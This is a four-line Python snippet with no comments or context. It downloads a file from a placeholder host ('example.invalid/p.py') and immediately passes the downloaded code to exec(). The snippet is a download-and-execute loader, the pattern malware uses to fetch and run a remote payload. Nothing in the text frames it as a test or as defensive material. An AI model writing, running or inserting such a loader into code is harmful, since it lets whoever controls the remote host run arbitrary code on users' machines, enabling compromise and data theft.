import urllib.request

payload = urllib.request.urlopen("https://example.invalid/p.py").read()
exec(payload)
